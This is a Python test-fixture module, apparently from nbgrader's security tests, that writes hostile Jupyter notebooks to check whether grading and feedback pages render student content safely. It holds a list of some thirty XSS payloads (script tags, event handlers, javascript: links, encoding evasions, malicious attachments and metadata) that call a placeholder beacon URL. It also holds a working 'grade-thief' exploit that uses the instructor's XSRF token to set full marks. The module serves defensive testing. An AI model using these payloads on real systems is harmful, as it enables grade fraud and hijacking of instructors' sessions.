"""Hostile notebooks aimed at whoever opens them: the instructor in Manual Grading, the student in the feedback.

One table of payloads, each a place in a notebook (a Markdown or raw cell, an attachment, an output,
metadata, an exception the judge quotes) and what is put there. Every payload, if it ran, would be
seen: it fetches `BEACON/NAME` (a localhost server the test starts), sets `document.title`, or
loads something from the beacon; `grade-thief` does what a student did to a real course: it reads
the page's XSRF cookie and PUTs full marks for every grade of the submission. Each cell also
carries `readable words NAME`, which must still be there, as text, for the reader.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

__all__ = ["PAYLOADS", "Payload", "add_payloads", "readable_words", "write_unvalidated"]

ACT = "@ACT@"  # replaced by the payload's own action: fetch the beacon, change the title
BEACON = "@BEACON@"  # replaced by the beacon's URL
# The attack of issue 26: full marks for every grade of the submission, with the instructor's XSRF token.
# (Absolute URLs: another payload's <base> must not send it to the beacon instead.)
GRADE_THIEF = ("const a=location.origin+'/formgrader/api/';fetch(a+'grades?submission_id='+submission_id)"
               ".then(r=>r.json()).then(g=>g.forEach(x=>fetch(a+'grade/'+x.id,{method:'PUT',headers:{'X-XSRFToken':"
               "document.cookie.match(/_xsrf=([^;]+)/)[1]},body:JSON.stringify({manual_score:x.max_score})})))")
_SCRIPT_B64 = base64.b64encode(f"<script>{ACT}</script>".encode()).decode()


@dataclass(frozen=True)
class Payload:
    name: str
    place: str  # markdown, raw, attachment, output, metadata
    text: str


PAYLOADS = (
    Payload("script", "markdown", f"<script>{ACT}</script>"),
    Payload("img-onerror", "markdown", f'<img src=x onerror="{ACT}">'),
    Payload("grade-thief", "markdown", f'<img src=x onerror="{GRADE_THIEF}">'),
    Payload("svg-onload", "markdown", f'<svg onload="{ACT}"><circle r="5"></circle></svg>'),
    Payload("svg-script", "markdown", f"<svg><script>{ACT}</script></svg>"),
    Payload("details-ontoggle", "markdown", f'<details open ontoggle="{ACT}"><summary>s</summary>d</details>'),
    Payload("entity-handler", "markdown", f"<img src=x onerror=\"&#102;etch('{BEACON}/entity-handler')\">"),
    Payload("javascript-link", "markdown", f"[click me](javascript:{ACT})"),
    Payload("javascript-autolink", "markdown", f"<javascript:{ACT}>"),
    Payload("entity-link", "markdown", f"[click me](&#106;avascript:{ACT})"),
    Payload("mixed-case-link", "markdown", f'<a href=" jAvAsCrIpT:{ACT}">click me</a>'),
    Payload("data-link", "markdown", f'<a href="data:text/html;base64,{_SCRIPT_B64}">click me</a>'),
    Payload("iframe", "markdown", f'<iframe src="{BEACON}/iframe"></iframe><iframe srcdoc="<script>{ACT}</script>">'
                                  "</iframe>"),
    Payload("object-embed", "markdown", f'<object data="{BEACON}/object"></object><embed src="{BEACON}/embed">'),
    Payload("form", "markdown", f'<form action="{BEACON}/form"><input name=q autofocus onfocus="{ACT}">'
                                "<button>send</button></form>"),
    Payload("meta-refresh", "markdown", f'<meta http-equiv="refresh" content="0;url={BEACON}/meta-refresh">'),
    Payload("base", "markdown", f'<base href="{BEACON}/base/"><img src="relative.png">'),
    Payload("css-cover", "markdown", '<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
                                     'z-index:99999;background:red">COVER</div>'),
    Payload("style-element", "markdown", f"<style>@import url('{BEACON}/style-import'); body {{display: none; "
                                         f"background: url('{BEACON}/style-background')}}</style>"),
    Payload("stylesheet-link", "markdown", f'<link rel="stylesheet" href="{BEACON}/stylesheet-link">'),
    Payload("remote-image", "markdown", f'<img src="{BEACON}/remote-image"> ![remote]({BEACON}/markdown-image)'),
    Payload("mathjax", "markdown", f"$\\href{{javascript:{ACT}}}{{math link}}$ and "
                                   "$$\\style{position:fixed;top:0}{\\Huge X}$$"),
    Payload("html-block", "markdown", f'<div>\n\n<img src=x onerror="{ACT}">\n\n</div>'),
    Payload("comment-trick", "markdown", f'<!--><img src=x onerror="{ACT}">-->'),
    Payload("noscript-mxss", "markdown", f'<noscript><p title="</noscript><img src=x onerror=\'{ACT}\'>">'),
    Payload("image-alt", "markdown", f'![<img src=x onerror="{ACT}">](x.png)'),
    Payload("raw-html", "raw", f'<script>{ACT}</script><img src=x onerror="{ACT}">'),
    Payload("svg-attachment", "attachment", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ACT}">'
                                            f"<script>{ACT}</script></svg>"),
    Payload("html-attachment", "attachment", f"<script>{ACT}</script>"),
    Payload("html-output", "output", f'<img src=x onerror="{ACT}">'),
    Payload("tags", "metadata", f'x navbar-fixed-top" onmouseover="{ACT}'),
    Payload("hidden-cell", "metadata", "transient remove_source"),
    Payload("grade-id", "metadata", f'<img src=x onerror="{ACT}">'),
)


def readable_words(name: str) -> str:
    return f"readable words {name}"


def _filled(text: str, name: str, beacon: str) -> str:
    action = f"fetch('{BEACON}/{name}');document.title='pwned-{name}'"
    return text.replace(ACT, action).replace(BEACON, beacon)


def _cell(payload: Payload, beacon: str) -> nbformat.NotebookNode:
    text = _filled(payload.text, payload.name, beacon)
    words = f"**{payload.name}**: {readable_words(payload.name)}."
    if payload.place == "markdown":
        return new_markdown_cell(f"{words}\n\n{text}")
    if payload.place == "raw":
        cell = new_raw_cell(f"{words} {text}")
        cell.metadata["raw_mimetype"] = "text/html"
        return cell
    if payload.place == "attachment":
        svg = payload.name.startswith("svg")
        name, mime = ("evil.svg", "image/svg+xml") if svg else ("page.html", "text/html")
        cell = new_markdown_cell(f"{words}\n\n![attached](attachment:{name})")
        cell.attachments = {name: {mime: base64.b64encode(text.encode()).decode()}}
        return cell
    if payload.place == "output":
        cell = new_code_cell(f"# {words}")
        cell.outputs = [
            new_output("display_data", data={"text/html": text, "application/javascript": _filled(ACT, "js", beacon),
                                             "text/plain": "plain"}, metadata={"isolated": True}),
            new_output("display_data", data={"text/markdown": f"[x](javascript:{_filled(ACT, 'md', beacon)})",
                                             "image/svg+xml": f"<svg onload=\"{_filled(ACT, 'svg', beacon)}\"/>"}),
            new_output("display_data", data={"image/png": "iVBORw0KGgo=", "text/plain": "png"},
                       metadata={"width": f"1 onload={_filled(ACT, 'width', beacon)}"}),
        ]
        return cell
    cell = new_markdown_cell(words)
    if payload.name == "tags":
        cell.metadata["tags"] = [text, "x navbar-fixed-top"]
    elif payload.name == "hidden-cell":
        cell.metadata["transient"] = {"remove_source": True}
    else:  # grade-id: a cell claiming an nbgrader identity no source cell has
        cell.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": False, "task": False,
                                     "grade_id": text, "schema_version": 3}
    return cell


def add_payloads(notebook: nbformat.NotebookNode, payloads: tuple[Payload, ...], beacon: str) -> None:
    """Append a cell for each payload to a student's notebook, and give it hostile notebook metadata."""
    notebook.cells.extend(_cell(payload, beacon) for payload in payloads)
    script = f"</script><script>{_filled(ACT, 'widgets', beacon)}</script>"
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "x": script}}
    notebook.metadata["title"] = f"</title>{script}"


def write_unvalidated(notebook: nbformat.NotebookNode, path: Path) -> None:
    """As a student's editor could write it: nbformat would refuse the hostile tags and metadata."""
    path.write_text(json.dumps(notebook, indent=1))
